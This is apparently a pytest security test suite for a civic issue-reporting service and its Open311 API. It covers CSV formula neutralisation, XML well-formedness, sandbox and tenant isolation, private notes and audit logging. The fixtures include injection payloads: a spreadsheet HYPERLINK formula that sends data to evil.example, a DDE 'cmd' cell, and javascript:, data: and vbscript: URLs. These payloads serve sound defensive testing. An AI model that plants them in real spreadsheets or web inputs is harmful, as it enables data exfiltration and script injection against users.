"""Reporting's security properties, as a client, a citizen or a spreadsheet would notice them."""
import csv
import io
import uuid
import xml.etree.ElementTree as ET

import pytest
import sqlalchemy as sa

from tests.reporting.conftest import REPORTER, WHERE
from tests.reporting.test_open311 import post_request
from civic.core.tenancy import place_wide

try:  # the strictest parser there is, when it is installed; the standard one is strict about XML 1.0 too
    from defusedxml.ElementTree import fromstring as strict_parse
except ImportError:
    strict_parse = ET.fromstring

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd"]


def run(app, fn):
    from civic.core.db import unit_of_work

    with app.app_context(), place_wide("tests.inspection"), unit_of_work():
        return fn()


def switch_off_reporting(app, tenant):
    from civic.core.db import session
    from civic.core.tenancy import Tenant

    run(app, lambda: setattr(session.get(Tenant, tenant.id), "components", ["booking"]))


# --- 1. a switched-off component is not reachable through Open311 ------------------------------
def test_a_tenant_without_reporting_is_out_of_open311(client, app, place):
    key = place.api_key(place.council)
    report_id = post_request(client, key).json[0]["service_request_id"]
    client.post(f"/v1/reporting/reports/{report_id}/status", headers=place.council_rw,
                json={"status": "in_progress", "note": "Crew booked.", "public": True})
    switch_off_reporting(app, place.council)

    refused = post_request(client, key, "xml")
    assert refused.status_code == 403
    assert strict_parse(refused.data).find("error/code").text == "403"
    update = client.post("/open311/v2/servicerequestupdates.json", data={
        "api_key": key, "service_request_id": report_id, "status": "closed", "description": "x"})
    assert update.status_code == 403 and update.json[0]["code"] == 403
    assert client.get("/open311/v2/services.json").json == []
    assert client.get("/open311/v2/requests.json").json == []
    assert client.get("/open311/v2/servicerequestupdates.json").json == []
    assert client.get(f"/open311/v2/requests/{report_id}.json").status_code == 404
    assert client.get("/open311/v2/services/borough-council:pothole.json").status_code == 404


# --- 2. CSV cells a spreadsheet would run come out as text ------------------------------------------
def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def assert_neutral(rows):
    for row in rows:
        for cell in row:
            assert is_number(cell) or not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_the_reports_export_neutralises_formulas(client, place):
    for formula in FORMULAS:
        place.report(description=formula, reporter=REPORTER, address=formula)
    response = client.get("/v1/reporting/reports.csv?include_personal_data=true", headers=place.council_rw)
    rows = cells(response.text)
    assert_neutral(rows)
    descriptions = [row[rows[0].index("description")] for row in rows[1:]]
    assert sorted(descriptions) == sorted("'" + f for f in FORMULAS)
    assert all(row[rows[0].index("reporter_email")] == "ada@example.org" for row in rows[1:])
    # A negative number is still a number.
    assert [row[rows[0].index("long")] for row in rows[1:]][0] == str(WHERE["long"])


def test_the_insight_counts_csv_neutralises_formulas(client, place):
    place.category(place.council_rw, {"code": "-cmd", "name": "=cmd|' /C calc'!A0"})
    place.report(category="-cmd")
    response = client.get("/v1/reporting/insight/counts?by=category&format=csv", headers=place.council_rw)
    assert response.status_code == 200
    rows = cells(response.text)
    assert_neutral(rows)
    assert ["'-cmd", "1"] in rows or ["'=cmd|' /C calc'!A0", "1"] in rows


# --- 3. whatever is stored, Open311 XML is well-formed ------------------------------------------------
BAD_TEXT = "Broken\x01 tab\x0b form\x0c nonchar\ufffe end"


def test_open311_xml_stays_well_formed_whatever_is_stored(client, app, place):
    key = place.api_key(place.council)
    report_id = post_request(client, key).json[0]["service_request_id"]
    client.post(f"/v1/reporting/reports/{report_id}/status", headers=place.council_rw,
                json={"status": "in_progress", "note": "Booked"})
    from civic.core.db import session
    from civic.reporting.models import Category, Report, ReportUpdate

    def corrupt():
        session.execute(sa.update(Report).values(description=BAD_TEXT, address=BAD_TEXT))
        session.execute(sa.update(ReportUpdate).where(ReportUpdate.note.is_not(None)).values(note=BAD_TEXT, public=True))
        session.execute(sa.update(Category).values(name=BAD_TEXT, description=BAD_TEXT, group=BAD_TEXT))

    run(app, corrupt)
    paths = ["services.xml", "services/borough-council:pothole.xml", "requests.xml", f"requests/{report_id}.xml",
             "requests.xml?jurisdiction_id=borough-council", "servicerequestupdates.xml", "discovery.xml",
             f"requests/{report_id}", "requests"]
    for path in paths:
        response = client.get(f"/open311/v2/{path}")
        assert response.status_code == 200, path
        root = strict_parse(response.data)
        assert "\ufffe" not in response.data.decode()
    token = client.get(f"/v1/reporting/reports/{report_id}", headers=place.council_rw).json["token"]
    assert strict_parse(client.get(f"/open311/v2/tokens/{token}.xml").data).find("request/token").text == token
    error = client.get("/open311/v2/services/borough-council:no%01such%0Bthing.xml")
    assert error.status_code == 404 and "no" in strict_parse(error.data).find("error/description").text
    request = strict_parse(client.get(f"/open311/v2/requests/{report_id}.xml").data).find("request")
    assert request.find("description").text == "Broken\ufffd tab\ufffd form\ufffd nonchar\ufffd end"
    assert request.find("status_notes").text.startswith("Broken\ufffd")
    assert root is not None


# --- 4. out-of-range dates are refused, never a 500 ---------------------------------------------------
@pytest.mark.parametrize("params", [{"start_date": "9999-12-31T00:00:00Z"}, {"end_date": "0001-01-01T00:00:00Z"},
                                    {"start_date": "0001-01-01T00:00:00+05:00"},
                                    {"end_date": "9999-12-31T23:59:59-05:00"}])
@pytest.mark.parametrize("path", ["requests.json", "servicerequestupdates.json"])
def test_open311_dates_out_of_range_are_400s(client, place, params, path):
    response = client.get(f"/open311/v2/{path}", query_string=params)
    assert response.status_code == 400 and response.json[0]["code"] == 400


@pytest.mark.parametrize("params", [{"created_after": "0001-01-01T00:00:00+05:00"},
                                    {"created_before": "9999-12-31T23:59:59-05:00"},
                                    {"created_after": "0001-01-01T00:00:00Z"}])
@pytest.mark.parametrize("path", ["reports", "reports.csv"])
def test_report_filters_out_of_range_are_422s(client, place, params, path):
    place.report()
    response = client.get(f"/v1/reporting/{path}", query_string=params, headers=place.council_rw)
    assert response.status_code == 422 and response.json["code"] == "validation_failed"


@pytest.mark.parametrize("params", [{"start": "0001-01-01T00:00:00+05:00"}, {"end": "9999-12-31T23:59:59-05:00"}])
def test_insight_dates_out_of_range_are_422s(client, place, params):
    response = client.get("/v1/reporting/insight/counts", query_string=params, headers=place.council_rw)
    assert response.status_code == 422


def test_a_year_one_cursor_is_a_422(client, place):
    import base64
    import json

    place.report()
    raw = json.dumps(["0001-01-01T00:00:00+05:00", str(uuid.uuid4())]).encode()
    cursor = base64.urlsafe_b64encode(raw).decode().rstrip("=")
    response = client.get(f"/v1/reporting/reports?after={cursor}", headers=place.council_rw)
    assert response.status_code == 422 and response.json["code"] == "invalid_cursor"


# --- 5. a transfer hands over the report, not the sender's own bookkeeping ---------------------------
def test_the_receiver_of_a_transfer_sees_none_of_the_senders_bookkeeping(client, place):
    report = place.report(description="Mould", reference="COUNCIL-CASE-991", metadata={"crm_id": "secret-77"})
    sender_client = report["source"].split(":", 1)[1]
    client.post(f"/v1/reporting/reports/{report['id']}/status", headers=place.council_rw,
                json={"status": "acknowledged", "note": "Council internal: rang landlord", "public": False})
    moved = client.post(f"/v1/reporting/reports/{report['id']}/transfer", headers=place.council_rw,
                        json={"tenant": "riverside-homes", "category": "damp-mould"})
    assert moved.status_code == 201, moved.json
    theirs = client.get(f"/v1/reporting/reports/{report['id']}", headers=place.homes_rw)
    history = client.get(f"/v1/reporting/reports/{report['id']}/updates", headers=place.homes_rw)
    listed = client.get("/v1/reporting/reports", headers=place.homes_rw)
    export = client.get("/v1/reporting/reports.csv", headers=place.homes_rw)
    assert theirs.json["metadata"] == {} and theirs.json["reference"] is None
    assert theirs.json["description"] == "Mould"
    for response in (theirs, history, listed, export):
        text = response.get_data(as_text=True)
        assert sender_client not in text and "secret-77" not in text and "COUNCIL-CASE-991" not in text
        assert "rang landlord" not in text
    # The sender's own record keeps its reference.
    assert moved.json["snapshot"]["reference"] == "COUNCIL-CASE-991"


# --- 6. media URLs are web links only -------------------------------------------------------------------
@pytest.mark.parametrize("url", ["javascript:alert(document.cookie)", "JavaScript:alert(1)",
                                 "data:text/html,<script>alert(1)</script>", "ftp://example.org/x.jpg",
                                 "vbscript:msgbox", "https://example.org/" + "a" * 1000, "//evil.example/x"])
def test_open311_refuses_media_urls_that_are_not_web_links(client, place, url):
    key = place.api_key(place.council)
    response = post_request(client, key, media_url=url)
    assert response.status_code == 400, response.data
    report_id = place.report()["id"]
    update = client.post("/open311/v2/servicerequestupdates.json", data={
        "api_key": key, "service_request_id": report_id, "status": "in_progress", "media_url": url})
    assert update.status_code == 400
    staff = client.post("/v1/reporting/reports", headers=place.council_rw,
                        json={"category": "fly-tipping", **WHERE, "media_url": url})
    assert staff.status_code == 422


def test_open311_keeps_web_media_urls(client, place):
    key = place.api_key(place.council)
    report_id = post_request(client, key, media_url="https://photos.example.org/1.jpg").json[0]["service_request_id"]
    assert client.get(f"/open311/v2/requests/{report_id}.json").json[0]["media_url"] == "https://photos.example.org/1.jpg"


# --- 7. staff notes are private unless marked public -------------------------------------------------------
def test_staff_notes_are_private_unless_marked_public(client, place):
    report = place.report()
    url = f"/v1/reporting/reports/{report['id']}/status"
    private = client.post(url, headers=place.council_rw, json={"status": "acknowledged", "note": "Rang Alice on 07911 123456"})
    assert private.status_code == 200
    client.post(url, headers=place.council_rw, json={"status": "in_progress", "note": "Crew booked.", "public": True})
    client.post(url, headers=place.council_rw, json={"status": "in_progress", "note": "Alice's neighbour is Bob"})
    for path in ("requests.json", f"requests/{report['id']}.json", "servicerequestupdates.json",
                 "requests.xml", "servicerequestupdates.xml"):
        text = client.get(f"/open311/v2/{path}").get_data(as_text=True)
        assert "07911" not in text and "Alice" not in text and "Bob" not in text, path
    row = client.get(f"/open311/v2/requests/{report['id']}.json").json[0]
    assert row["status_notes"] == "Crew booked."
    updates = client.get("/open311/v2/servicerequestupdates.json").json
    # Status changes still show, with only the public note.
    assert [(u["status"], u["description"]) for u in updates] == [("investigating", ""), ("in_progress", "Crew booked.")]
    history = client.get(f"/v1/reporting/reports/{report['id']}/updates", headers=place.council_rw).json
    assert [(h["note"], h["public"]) for h in history[1:]] == [
        ("Rang Alice on 07911 123456", False), ("Crew booked.", True), ("Alice's neighbour is Bob", False)]


# --- 8. every read of personal data is audited, by a client too -----------------------------------------
def audit_entries(app):
    from civic.core.audit import AuditEntry
    from civic.core.db import session

    with app.app_context(), place_wide("tests.inspection"):
        return [(a.action, a.actor, a.subject_id, a.detail) for a in session.scalars(
            sa.select(AuditEntry).where(AuditEntry.action.like("reporting.%")).order_by(AuditEntry.time))]


def test_a_clients_reads_of_personal_data_are_audited(client, app, place, make):
    from civic.gateway.models import Client

    headers = make.headers(place.council, "reporting:read", name="Machine reader")
    with app.app_context(), place_wide("tests.inspection"):
        from civic.core.db import session

        reader = session.scalars(sa.select(Client).where(Client.name == "Machine reader")).one().client_id
    with_pd = place.report(reporter=REPORTER)
    place.report()
    client.get(f"/v1/reporting/reports/{with_pd['id']}", headers=headers)
    client.get("/v1/reporting/reports", headers=headers)
    assert audit_entries(app) == [("reporting.personal_data_read", f"client:{reader}", with_pd["id"], {}),
                                  ("reporting.personal_data_read", f"client:{reader}", with_pd["id"], {})]


def test_a_status_change_answer_is_an_audited_read(client, app, place):
    """Found by the attacker's review: the answer of a status change holds the reporter's details."""
    report = place.report(reporter=REPORTER)
    changed = client.post(f"/v1/reporting/reports/{report['id']}/status", json={"status": "in_progress"},
                          headers=place.council_rw)
    assert changed.status_code == 200 and changed.json["reporter"]["email"] == REPORTER["email"].lower()
    assert [(action, subject) for action, _, subject, _ in audit_entries(app)] == [
        ("reporting.personal_data_read", report["id"])]


def test_an_export_with_personal_data_records_which_reports(client, app, place):
    first = place.report(reporter=REPORTER)
    second = place.report(reporter={"email": "bob@example.org"})
    client.get("/v1/reporting/reports.csv?include_personal_data=true", headers=place.council_rw)
    [(action, actor, _, detail)] = audit_entries(app)
    assert action == "reporting.personal_data_exported" and actor.startswith("client:")
    assert sorted(detail["report_ids"]) == sorted([first["id"], second["id"]])
    assert "ada" not in str(detail).lower() and "bob" not in str(detail).lower()


# --- 10. the sandbox is its own world --------------------------------------------------------------------
def test_sandbox_clients_and_live_clients_never_see_each_others_reports(client, place, make):
    sandbox = make.headers(place.council, "reporting:read", "reporting:write", sandbox=True)
    test_report = place.report(sandbox, description="A test report")
    live_report = place.report(description="A live report")
    sandbox_key = place.api_key(place.council, sandbox=True)
    via_open311 = post_request(client, sandbox_key, description="Open311 test").json[0]["service_request_id"]

    live_ids = [r["id"] for r in client.get("/v1/reporting/reports", headers=place.council_rw).json["items"]]
    assert live_ids == [live_report["id"]]
    test_ids = [r["id"] for r in client.get("/v1/reporting/reports", headers=sandbox).json["items"]]
    assert sorted(test_ids) == sorted([test_report["id"], via_open311])
    assert client.get(f"/v1/reporting/reports/{test_report['id']}", headers=place.council_rw).status_code == 404
    assert client.get(f"/v1/reporting/reports/{live_report['id']}", headers=sandbox).status_code == 404
    assert client.post(f"/v1/reporting/reports/{live_report['id']}/status", headers=sandbox,
                       json={"status": "closed"}).status_code == 404
    assert client.get(f"/v1/reporting/reports/{via_open311}/updates", headers=place.council_rw).status_code == 404
    assert len(client.get(f"/v1/reporting/reports/{via_open311}/updates", headers=sandbox).json) == 1
    assert "A test report" not in client.get("/v1/reporting/reports.csv", headers=place.council_rw).text
    # A sandbox key cannot touch a live report through Open311 either.
    update = client.post("/open311/v2/servicerequestupdates.json", data={
        "api_key": sandbox_key, "service_request_id": live_report["id"], "status": "closed"})
    assert update.status_code == 404
    # Test reports never reach the public feed, by any route.
    public = client.get("/open311/v2/requests.json").get_data(as_text=True)
    assert "test report" not in public.lower() and via_open311 not in public
    for report_id in (test_report["id"], via_open311):
        assert client.get(f"/open311/v2/requests/{report_id}.json").status_code == 404
        assert client.get("/open311/v2/requests.json", query_string={"service_request_id": report_id}).json == []
    client.post(f"/v1/reporting/reports/{test_report['id']}/status", headers=sandbox,
                json={"status": "in_progress", "note": "Test note", "public": True})
    assert "Test note" not in client.get("/open311/v2/servicerequestupdates.json").get_data(as_text=True)


def test_a_sandbox_transfer_stays_in_the_sandbox(client, place, make):
    sandbox = make.headers(place.council, "reporting:read", "reporting:write", sandbox=True)
    homes_sandbox = make.headers(place.homes, "reporting:read", sandbox=True)
    report = place.report(sandbox)
    moved = client.post(f"/v1/reporting/reports/{report['id']}/transfer", headers=sandbox,
                        json={"tenant": "riverside-homes", "category": "damp-mould"})
    assert moved.status_code == 201
    assert client.get("/v1/reporting/transfers", headers=place.council_rw).json["items"] == []
    assert [t["id"] for t in client.get("/v1/reporting/transfers", headers=sandbox).json["items"]] == [moved.json["id"]]
    assert client.get(f"/v1/reporting/reports/{report['id']}", headers=place.homes_rw).status_code == 404
    assert client.get(f"/v1/reporting/reports/{report['id']}", headers=homes_sandbox).status_code == 200
    assert len(client.get(f"/v1/reporting/reports/{report['id']}/updates", headers=homes_sandbox).json) == 2


# --- 9b. the database keeps one update per update_id, whoever gets past the lock -----------------------
def test_the_database_refuses_a_second_update_with_the_same_update_id(app, place):
    from sqlalchemy.exc import IntegrityError

    from civic.core.db import session
    from civic.reporting.models import ReportUpdate

    report_id = uuid.UUID(place.report()["id"])

    def twice():
        for _ in range(2):
            session.add(ReportUpdate(tenant_id=place.council.id, report_id=report_id, status="open", actor="test",
                                     external_id="fms-9", sandbox=False))
        session.flush()

    with pytest.raises(IntegrityError):
        run(app, twice)


def test_a_bearer_token_lends_nothing_to_an_open311_api_key(client, place, make):
    """Found by the attacker's review: a sandbox key sent with any live token wrote live records."""
    live_report = place.report(description="A live report")
    sandbox_key = place.api_key(place.council, sandbox=True)
    stranger = make.headers(make.tenant(), "booking:read")  # a live token of another organisation
    update = client.post("/open311/v2/servicerequestupdates.json", headers=stranger, data={
        "api_key": sandbox_key, "service_request_id": live_report["id"], "status": "closed", "update_id": "u2"})
    assert update.status_code == 404
    assert client.get(f"/v1/reporting/reports/{live_report['id']}", headers=place.council_rw).json["status"] == "open"
    made = client.post("/open311/v2/requests.json", headers=stranger, data={
        "api_key": sandbox_key, "service_code": "borough-council:pothole", "description": "SANDBOX-LEAK",
        "lat": "51.5", "long": "-0.12", "attribute[depth]": "deep"})
    assert made.status_code == 200, made.get_data(as_text=True)
    assert "SANDBOX-LEAK" not in client.get("/open311/v2/requests.json").get_data(as_text=True)
    sandbox = make.headers(place.council, "reporting:read", sandbox=True)
    assert made.json[0]["service_request_id"] in [r["id"] for r in client.get(
        "/v1/reporting/reports", headers=sandbox).json["items"]]


def test_a_sandbox_client_reads_categories_but_never_changes_them(client, place, make):
    """Found by the attacker's review: a sandbox client made a private category public in Open311."""
    place.category(place.council_rw, {"code": "needs-help", "name": "Someone needs help", "public": False})
    sandbox = make.headers(place.council, "reporting:read", "reporting:write", sandbox=True)
    assert client.get("/v1/reporting/categories/needs-help", headers=sandbox).status_code == 200
    for method, url, body in (("patch", "/v1/reporting/categories/needs-help", {"public": True}),
                              ("post", "/v1/reporting/categories", {"code": "new", "name": "New"}),
                              ("delete", "/v1/reporting/categories/needs-help", None)):
        answer = getattr(client, method)(url, headers=sandbox, **({"json": body} if body else {}))
        assert answer.status_code == 403 and answer.json["code"] == "sandbox_read_only", (method, answer.json)
    assert client.get("/v1/reporting/categories/needs-help", headers=place.council_rw).json["public"] is False

